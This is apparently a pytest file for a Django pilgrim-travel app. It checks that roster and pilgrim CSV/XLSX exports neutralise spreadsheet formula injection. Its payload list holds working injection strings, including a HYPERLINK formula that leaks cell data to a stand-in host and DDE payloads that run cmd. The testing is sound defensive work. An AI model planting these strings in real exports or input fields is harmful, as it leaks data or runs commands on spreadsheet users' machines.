"""Spreadsheet exports: no cell, whatever the input, is run by a spreadsheet."""

import csv
import datetime
import io

import pytest
from django.urls import reverse
from django_scopes import scopes_disabled
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from tests import factories
from tests.documents.conftest import build_trip
from tests.test_trips import person
from zaireen.core.roles import Role
from zaireen.documents.exports import DANGEROUS_FIRST, safe_cell, write_csv, write_xlsx
from zaireen.pilgrims.models import PilgrimProfile
from zaireen.pilgrims.services import pilgrim_register

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "\x01=1+1",  # a control character XML cannot hold: dropped first, then neutralised
]


def _csv_cells(data: bytes) -> list[str]:
    assert data.startswith(b"\xef\xbb\xbf"), "a byte-order mark, so Excel reads UTF-8"
    reader = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    return [cell for row in reader for cell in row]


def _xlsx_cells(data: bytes) -> list:
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_inert_xlsx(data: bytes) -> None:
    for cell in _xlsx_cells(data):
        assert cell.data_type != "f", (cell.coordinate, cell.value)
        if isinstance(cell.value, str) and cell.value:
            assert cell.value[0] not in DANGEROUS_FIRST, (cell.coordinate, cell.value)


def _assert_inert_csv(data: bytes) -> None:
    for cell in _csv_cells(data):
        assert not cell or cell[0] not in DANGEROUS_FIRST, cell


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_dangerous_value_is_prefixed_with_a_quote(payload):
    cell = safe_cell(payload)
    assert cell.startswith("'")
    assert cell[1:] == payload.replace("\x01", "")


@pytest.mark.parametrize(
    "value",
    ["RIZVI", "سجاد حسین رضوی", "O+", "a=b", " =1", "", 7, 0, 2.5, datetime.date(2026, 1, 2)],
)
def test_a_harmless_value_is_left_alone(value):
    assert safe_cell(value) == value


def test_none_is_an_empty_cell_and_booleans_are_words():
    assert safe_cell(None) == ""
    assert safe_cell(True) == "yes"


# Text of every kind, including control characters, surrogate-free Unicode, and the
# characters that start a formula, often at the front.
texts = st.one_of(
    st.text(),
    st.builds(lambda a, b: a + b, st.sampled_from(sorted(DANGEROUS_FIRST)), st.text()),
    st.sampled_from(PAYLOADS),
)
cells = st.one_of(texts, st.integers(min_value=0, max_value=10**12), st.none(), st.dates())


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.lists(cells, min_size=1, max_size=6), min_size=1, max_size=8), texts)
def test_no_exported_cell_starts_a_formula(rows, header_text):
    header = [header_text, "b", "c"]
    _assert_inert_csv(write_csv(header, rows))
    _assert_inert_xlsx(write_xlsx(header_text, header, rows))


@settings(max_examples=60, deadline=None)
@given(st.text(alphabet=st.characters(blacklist_categories=("Cs", "Cc")), min_size=1))
def test_text_survives_the_round_trip(text):
    """Apart from the quote on dangerous text, what goes in comes back out."""
    expected = safe_cell(text)
    [_header, csv_value] = _csv_cells(write_csv(["h"], [[text]]))
    assert csv_value == expected
    xlsx = [c.value for c in _xlsx_cells(write_xlsx("t", ["h"], [[text]]))]
    assert xlsx[1] == expected


@pytest.mark.django_db
def test_a_roster_with_formulas_in_its_data_exports_inert(client, org_staff):
    demo = build_trip(org_staff, count=3, cards=False)
    with scopes_disabled():
        profile = PilgrimProfile.objects.get(pk=demo.profiles[1].pk)
        # Free-text fields an attacker registering as a pilgrim could fill.
        profile.next_of_kin_name = PAYLOADS[0]
        profile.next_of_kin_relation = PAYLOADS[1]
        profile.guardian_name = PAYLOADS[3]
        profile.save()
    client.force_login(org_staff)
    xlsx = client.get(reverse("documents:roster_xlsx", kwargs={"uid": demo.trip.uid}))
    assert xlsx.status_code == 200
    assert xlsx["Content-Type"].startswith("application/vnd.openxmlformats")
    assert "attachment" in xlsx["Content-Disposition"]
    assert xlsx["Cache-Control"] == "no-store"
    _assert_inert_xlsx(xlsx.content)
    values = [c.value for c in _xlsx_cells(xlsx.content)]
    assert "'" + PAYLOADS[0] in values
    assert "SAJJAD HUSSAIN" in values and "سجاد حسین رضوی" in values
    assert "AB0000001" in values  # the organiser's own roster carries passport numbers
    assert "'+923001112233" in values  # phone numbers too start with a dangerous '+'

    roster_csv = client.get(reverse("documents:roster_csv", kwargs={"uid": demo.trip.uid}))
    assert roster_csv["Content-Type"] == "text/csv; charset=utf-8"
    _assert_inert_csv(roster_csv.content)
    assert "'" + PAYLOADS[1] in _csv_cells(roster_csv.content)

    pilgrims = client.get(reverse("documents:pilgrims_xlsx"))
    _assert_inert_xlsx(pilgrims.content)
    assert "'" + PAYLOADS[3] in [c.value for c in _xlsx_cells(pilgrims.content)]
    _assert_inert_csv(client.get(reverse("documents:pilgrims_csv")).content)


@pytest.mark.django_db
def test_the_pilgrims_export_is_the_organisers_own_list_and_follows_the_search(client, org_staff):
    for n in range(3):
        pilgrim_register(
            actor=org_staff, data=person(n + 1, surname=["RIZVI", "NAQVI", "ZAIDI"][n])
        )
    other = factories.user("other", Role.ORGANISER_ADMIN, factories.organiser("ZGO-DOC-2"))
    pilgrim_register(actor=other, data=person(9, surname="KAZMI"))
    client.force_login(org_staff)
    everyone = _csv_cells(client.get(reverse("documents:pilgrims_csv")).content)
    assert {"RIZVI", "NAQVI", "ZAIDI"} <= set(everyone)
    assert "KAZMI" not in everyone
    found = _csv_cells(client.get(reverse("documents:pilgrims_csv"), {"q": "naqvi"}).content)
    assert "NAQVI" in found and "RIZVI" not in found
